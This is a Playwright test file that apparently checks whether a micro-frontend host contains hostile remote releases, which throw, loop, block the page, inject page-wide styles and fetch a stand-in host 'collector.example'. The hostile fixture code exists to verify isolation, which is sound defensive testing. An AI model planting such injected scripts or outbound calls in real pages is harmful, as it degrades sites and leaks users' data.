// What a hostile release does once it runs in a page. What is refused before is in api/src/delivery/releases/two-teams.test.ts.
import { expect } from '@playwright/test';
import { apiAs, ok } from '../support/api.ts';
import { test } from '../support/test.ts';
import { localeTexts } from '../support/texts.ts';
import { isSomebodys, openRegistry, type TestRegistry } from './released.ts';
import { firstCard, goInPage, mapOf, watchVersions } from './screens.ts';
import { entryOf, releaseWritten } from './written.ts';

test.skip(isSomebodys, 'a registry in use must not be changed');
test.use({ serviceWorkers: 'block', mayComplain: true });

const t = localeTexts('ru');
const LEAK = 'leak.1a2b3c4d.css';
const hostile = (version: string, entry: string, more?: object) =>
  releaseWritten(registry, { remote: 'mf_map', version, entry, ...more });
const pageWith = (component: string) => entryOf('mf_map', { './lifecycles': component });
let registry: TestRegistry;
test.beforeEach(async ({ request }) => {
  registry = await openRegistry(request);
});
test.afterEach(() => registry.restore());

test('a hostile remote is contained, and other screens work', async ({ page, request }) => {
  const othersWork = async () => {
    await goInPage(page, '/ru/products');
    await expect(firstCard(page)).toBeVisible();
  };

  await test.step('it throws while it is evaluated: the release before takes over', async () => {
    await hostile('9.7.0-throws', 'throw new Error("hostile");');
    const versions = watchVersions(page);
    await page.goto('/ru/search-on-map');
    await expect(mapOf(page, t)).toBeVisible();
    expect(versions('mf_map')).toEqual(['9.7.0-throws', registry.stable('mf_map')]);
    await othersWork();
  });

  await test.step('it updates itself without end: React stops it, and its place shows the error', async () => {
    const loop =
      'const [n, set] = React.useState(0); React.useLayoutEffect(() => set(n + 1)); return String(n);';
    await hostile('9.7.1-loops', pageWith(loop));
    await page.goto('/ru/search-on-map');
    await expect(page.getByRole('alert').filter({ hasText: t.remotes('title.crashed') })).toBeVisible();
    await othersWork();
  });

  await test.step('it blocks, styles the whole page and sends to a foreign origin: nothing is left of it', async () => {
    const outline = () => page.evaluate(() => getComputedStyle(document.body).outlineWidth);
    await hostile(
      '9.7.2-reaches-out',
      pageWith(`
        const [sent, setSent] = React.useState('asking');
        React.useEffect(() => {
          for (const end = performance.now() + 1500; performance.now() < end; );
          const inline = document.createElement('style');
          inline.textContent = 'body { outline: 9px solid red }';
          const own = document.createElement('link');
          Object.assign(own, { rel: 'stylesheet', href: '/remotes/mf_map/9.7.2-reaches-out/${LEAK}' });
          document.head.append(own, inline);
          const made = new CSSStyleSheet();
          made.replaceSync('body { outline: 8px solid red !important }');
          setInterval(() => {
            const ruled = document.createElement('style');
            document.head.append(ruled);
            try { ruled.sheet.insertRule('body { outline: 8px solid red !important }'); } catch {}
            document.adoptedStyleSheets = [made];
          }, 200);
          fetch('https://collector.example/').then(() => setSent('sent'), () => setSent('not sent'));
        }, []);
        return sent;`),
      { files: { [LEAK]: 'body { outline: 7px solid red }' } },
    );
    await page.goto('/ru/search-on-map');
    await expect(page.getByText('not sent', { exact: true })).toBeVisible();
    // Its own sheet is a file of the release, which the release checks would have refused: it applies, but not for others. Sheets
    // that its code has made are gone, and refused from now on.
    await expect.poll(outline).toBe('7px');
    await othersWork();
    await expect.poll(outline).not.toMatch(/^[789]px$/);
  });

  await test.step('and how long it blocked is counted against it', async () => {
    // Figures are sent once a page is left.
    await page.goto('about:blank');
    const sum =
      /^baza_browser_measurement_sum\{name="remote-block",remote="mf_map",version="9\.7\.2-.*"\} (\d+)/m;
    const blocked = async () => Number(sum.exec(await (await request.get('/metrics')).text())?.[1]);
    await expect.poll(blocked).toBeGreaterThan(1400);
  });
});

test('a parcel of another team’s remote fills a slot of a page; one that throws leaves nothing behind', async ({
  page,
}) => {
  const { items } = await ok<{ items: { id: number }[] }>(
    (await apiAs(null)).get('public/listings?category=ResidentialMultiStorey_Sell&size=1'),
  );
  const [listing] = items;
  const promote = (version: string, promo: string) =>
    releaseWritten(registry, {
      ...{ remote: 'mf_desk', version },
      entry: entryOf('mf_desk', { './promo': promo }),
      manifest: {
        exposes: [...registry.manifest('mf_desk').exposes, './promo'],
        slots: [{ slot: 'listing.after-price', expose: './promo', weight: 1, height: 40 }],
      },
    });
  const open = async () => {
    await page.goto(`/ru/products/product/${listing?.id}`);
    await expect(page.getByRole('main').getByRole('heading', { level: 1 })).toBeVisible();
  };
  const filled = page.locator('[data-of=mf_desk]');

  await promote('9.6.0-promo', 'return "Promo of " + props.listing;');
  await open();
  await expect(page.getByText(`Promo of ${listing?.id}`, { exact: true })).toBeVisible();
  await expect(filled).toHaveCount(1);

  await promote('9.6.1-promo', 'throw new Error("hostile");');
  const versions = watchVersions(page);
  await open();
  await expect.poll(() => versions('mf_desk')).toContain('9.6.1-promo');
  await expect(filled).toHaveCount(0);
  await expect(page.getByRole('main').getByRole('alert')).toHaveCount(0);
});
